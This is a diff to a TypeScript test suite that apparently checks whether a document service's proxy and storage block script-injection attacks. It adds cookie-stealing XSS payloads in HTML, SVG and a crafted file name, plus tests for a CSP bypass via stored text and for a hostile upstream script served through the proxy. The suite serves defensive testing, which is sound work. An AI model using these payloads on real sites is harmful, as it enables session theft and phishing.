@@ -1,10 +1,13 @@
 import type { FastifyInstance } from 'fastify'
 import type { RequestListener } from 'node:http'
-import type { AlwaysStopped, Run } from './attack.js'
+import { answerWith } from '../helpers/editing.js'
+import { startUpstream } from '../helpers/listen.js'
+import type { AlwaysStopped, Attack, Run, StoppedByOptions } from './attack.js'
 import { startTarget, type Target } from './target.js'
 
 const PAGE = '<!doctype html><html><script>steal(document.cookie)</script></html>'
 const DRAWING = '<svg xmlns="http://www.w3.org/2000/svg"><script>steal(document.cookie)</script></svg>'
+const SCRIPT = 'steal(document.cookie)'
 const NAME = '</script><script>steal(document.cookie)</script>.docx'
 
 /** Whether a browser that opens an answer runs its script in the origin of the service: as a page, or taken for one. */
@@ -12,10 +15,23 @@ function runs (headers: Headers): boolean {
   const policies = (headers.get('content-security-policy') ?? '').split(/[;,]/).map(policy => policy.trim().toLowerCase())
   const sandbox = policies.find(policy => /^sandbox\b/.test(policy))
   const isSandboxed = sandbox !== undefined && !(sandbox.includes('allow-scripts') && sandbox.includes('allow-same-origin'))
-  const isSaved = /^\s*attachment\b/i.test(headers.get('content-disposition') ?? '')
-  const isPage = /\b(?:html|xml|svg)\b/i.test(headers.get('content-type') ?? '')
-  const isTakenForPage = headers.get('x-content-type-options')?.toLowerCase() !== 'nosniff'
-  return !isSandboxed && !isSaved && (isPage || isTakenForPage)
+  return !isSandboxed && isShown(headers)
+}
+
+/** Whether a browser takes it for the script of a page of the same origin. Source: HTML and Fetch standards, "should response be blocked due to nosniff". */
+function isScript (headers: Headers): boolean {
+  const type = headers.get('content-type') ?? ''
+  return /^\w+\/(?:x-)?(?:java|ecma)script\b/i.test(type) || (!isPlain(headers) && !/^(?:image|audio|video)\/|^text\/csv\b/i.test(type))
+}
+
+/** Whether a browser shows it as a page, script or not. */
+function isShown (headers: Headers): boolean {
+  return !/^\s*attachment\b/i.test(headers.get('content-disposition') ?? '') && (/\b(?:html|xml|svg)\b/i.test(headers.get('content-type') ?? '') || !isPlain(headers))
+}
+
+/** Whether it is what its type says, whatever it looks like. */
+function isPlain (headers: Headers): boolean {
+  return headers.get('x-content-type-options')?.toLowerCase() === 'nosniff'
 }
 
 /** A host that takes away what protects. */
@@ -29,27 +45,50 @@ function serving (type: string | undefined, body: string): RequestListener {
   return (_request, response) => { response.writeHead(200, type === undefined ? {} : { 'content-type': type }).end(body) }
 }
 
-function opening (title: string, has: string, because: string, serve: RequestListener, urlOf: (target: Target) => Promise<string>): AlwaysStopped {
+type Verdict = (headers: Headers) => boolean
+
+function opening (title: string, has: string, because: string, serve: RequestListener, urlOf: (target: Target) => Promise<string>, succeeds: Verdict = runs): AlwaysStopped {
   const run: Run = async (t, options) => {
     const target = await startTarget(t, { ...options, serve })
     const response = await fetch(await urlOf(target))
     if (!(await response.text()).includes('steal')) throw new Error('the script did not arrive')
-    return runs(response.headers)
+    return succeeds(response.headers)
   }
   return { title, has, because, run, control: (t, options) => run(t, { ...options, prepare: unprotected }) }
+}
+
+const stored = (extension: string, content: string) => async (target: Target) => {
+  const { fileId } = await target.storage.create(extension, Buffer.from(content))
+  return target.urls.download(fileId)
 }
 
 const throughProxy = async (target: Target) => target.handler({ action: 'proxy', url: `${target.documentServer.origin}/x` })
 const FILE = 'a file at the document server; a victim who opens a link'
 
-export const scripts: readonly AlwaysStopped[] = [
+const INJECTION = 'a page of the service in which they can place a script element, with `script-src \'self\'`'
+const NOTHING = serving(undefined, '')
+
+const scriptOfOtherServer: StoppedByOptions = {
+  title: 'has a script of their own server run in such a page, through the proxy',
+  has: INJECTION,
+  stoppedBy: { 'proxy.allow': 'only the document server\'s origins' },
+  async run (t, options) {
+    const evil = await startUpstream(t, answerWith(SCRIPT, 200, { 'content-type': 'text/javascript' }))
+    // It is on loopback, where it plays a server of the outside.
+    const target = await startTarget(t, { allowPrivateAddresses: true, ...options })
+    const response = await fetch(target.handler({ action: 'proxy', url: `${evil.origin}/x.js` }))
+    return await response.text() === SCRIPT && isScript(response.headers)
+  }
+}
+
+export const scripts: readonly Attack[] = [
   opening('runs script in the service\'s origin: a page through the proxy', FILE, '`Content-Security-Policy: sandbox`', serving('text/html', PAGE), throughProxy),
   opening('runs script there: a drawing (SVG) through the proxy', FILE, '`Content-Security-Policy: sandbox`', serving('image/svg+xml', DRAWING), throughProxy),
   opening('runs script there: bytes without a type that a browser takes for a page', FILE, '`X-Content-Type-Options: nosniff`, sandbox', serving(undefined, PAGE), throughProxy),
-  opening('runs script there: a stored page', 'an HTML document in the service; a victim who opens its link', 'an attachment, sandboxed', serving(undefined, ''), async target => {
-    const { fileId } = await target.storage.create('html', Buffer.from(PAGE))
-    return target.urls.download(fileId)
-  }),
+  opening('runs script there: a stored page', 'an HTML document in the service; a victim who opens its link', 'an attachment, sandboxed', NOTHING, stored('html', PAGE)),
+  opening('shows a stored page under the service\'s address, to ask for a password', 'an HTML document in the service; a victim who opens its link', 'a download is an attachment', NOTHING, stored('html', PAGE), isShown),
+  opening('has a stored text run as a script of a page that trusts its own origin (CSP bypass)', INJECTION, '`X-Content-Type-Options: nosniff`', NOTHING, stored('txt', SCRIPT), isScript),
+  scriptOfOtherServer,
   {
     title: 'runs script in the page with the editor by a document\'s name',
     has: 'a document that the victim opens',
